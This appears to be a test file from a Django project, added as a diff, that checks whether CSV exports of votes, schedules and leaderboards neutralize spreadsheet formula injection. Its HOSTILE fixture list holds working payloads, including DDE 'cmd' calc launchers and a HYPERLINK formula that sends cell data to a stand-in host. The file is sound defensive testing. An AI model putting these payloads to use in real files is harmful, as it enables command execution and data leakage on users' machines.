@@ -1,0 +1,118 @@
+"""CSV formula injection (SECURITY.md row 17; SPEC §8 "CSV text cells").
+
+Text cells that a spreadsheet would run (``=``, ``+``, ``-``, ``@``, tab, CR first) are written
+with a leading ``'`` by every CSV the project writes (votes, schedules, leaderboards), imports
+remove it, and numbers stay numbers.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pytest
+from django.core.management import call_command
+from hypothesis import given
+from hypothesis import strategies as st
+
+from annotation import csv_cells
+from annotation.models import Vote
+from annotation.services.votes import votes_export_csv, votes_import_csv
+from ranking.services import leaderboard_csv, objective_parse_csv
+from tests.annotation.factories import EXAMPLE_ROWS, HEADER, make_study, write_votes_csv
+
+HOSTILE = [
+    '=HYPERLINK("http://x/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+    "''@twice",
+]
+
+
+def _is_safe(cell: str) -> bool:
+    return not cell.startswith(csv_cells.FORMULA_STARTS) or csv_cells._NUMBER.fullmatch(cell) is not None
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_hostile_cell_is_quoted_and_read_back_unchanged(text: str) -> None:
+    written = csv_cells.neutralize_cell(text)
+    assert written.startswith("'") and written[1:] == text
+    assert csv_cells.restore_cell(written) == text
+
+
+@pytest.mark.parametrize("value", [-2, -0.5, 3, 1.25, "-2", "-0.25", "+1e-3", "plain", "", "'plain", "a=b"])
+def test_numbers_and_ordinary_text_are_left_alone(value: object) -> None:
+    assert csv_cells.neutralize_cell(value) == value
+    if isinstance(value, str):
+        assert csv_cells.restore_cell(value) == value
+
+
+@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\r1.eEax ")), max_size=8))
+def test_write_then_read_is_the_identity_and_never_starts_a_formula(text: str) -> None:
+    buffer = io.StringIO()
+    csv_cells.writer(buffer).writerow([text, -2])
+    (cell, number), = list(csv.reader(io.StringIO(buffer.getvalue())))
+    assert _is_safe(cell) and number == "-2"
+    assert next(csv_cells.reader(io.StringIO(buffer.getvalue()))) == [text, "-2"]
+
+
+@pytest.mark.django_db
+def test_votes_export_neutralizes_rationales_and_rater_ids_and_import_restores_them(tmp_path: Path) -> None:
+    study = make_study()
+    rows = [dict(row) for row in EXAMPLE_ROWS]
+    for row, text in zip(rows, HOSTILE, strict=False):
+        row["rationale"] = text
+    for row in rows[:3]:
+        row["rater"] = "@r01"  # one rater's votes, its hidden repeat included
+    votes_import_csv(study=study, path=write_votes_csv(tmp_path / "in.csv", rows, HEADER))
+    assert set(Vote.objects.filter(trial__assignment__block__study=study).values_list("rationale", flat=True)) >= set(HOSTILE[: len(rows)])
+
+    first = tmp_path / "first.csv"
+    votes_export_csv(study=study, path=first)
+    with first.open(encoding="utf-8", newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert all(_is_safe(cell) for cell in cells), [c for c in cells if not _is_safe(c)]
+    assert "'@r01" in cells and "'" + HOSTILE[0] in cells
+    assert any(cell.lstrip("-").isdigit() and cell.startswith("-") for cell in cells)  # axis scores stay numbers
+
+    copy = make_study("copy")
+    votes_import_csv(study=copy, path=first)
+    stored = sorted(Vote.objects.filter(trial__assignment__block__study=copy).values_list("trial__assignment__rater__external_id", "rationale"))
+    original = sorted(Vote.objects.filter(trial__assignment__block__study=study).values_list("trial__assignment__rater__external_id", "rationale"))
+    assert stored == original
+    second = tmp_path / "second.csv"
+    votes_export_csv(study=copy, path=second)
+    assert second.read_text(encoding="utf-8") == first.read_text(encoding="utf-8")
+
+
+@pytest.mark.django_db
+def test_schedule_csv_neutralizes_rater_ids(tmp_path: Path) -> None:
+    study = make_study()
+    rows = [dict(row) for row in EXAMPLE_ROWS]
+    for row in rows[:3]:
+        row["rater"] = "=evil()"
+    votes_import_csv(study=study, path=write_votes_csv(tmp_path / "in.csv", rows, HEADER))
+    out = tmp_path / "schedule.csv"
+    call_command("export_schedule", study.slug, str(out))
+    with out.open(encoding="utf-8", newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert "'=evil()" in cells and all(_is_safe(cell) for cell in cells)
+
+
+def test_leaderboard_csv_neutralizes_names_and_keeps_negative_scores() -> None:
+    report = {"systems": [{
+        "rank": 1, "system": "@sys", "name": "=HYPERLINK(\"http://x\")", "score": -0.5, "ci95": [-1.0, 0.25],
+        "rank_ci95": [1, 2], "soft_preference": 0.4, "appearances": 3, "rank1_share": 0.5,
+    }]}
+    lines = list(csv.reader(io.StringIO(leaderboard_csv(report))))
+    assert lines[1][:5] == ["1", "'@sys", "'=HYPERLINK(\"http://x\")", "-0.5", "-1.0"]
+
+
+def test_objective_csv_reader_restores_quoted_system_ids() -> None:
+    scores = objective_parse_csv("system,score\n'@sys,-1.5\n", source="o.csv", systems={"@sys"})
+    assert scores == {"@sys": -1.5}
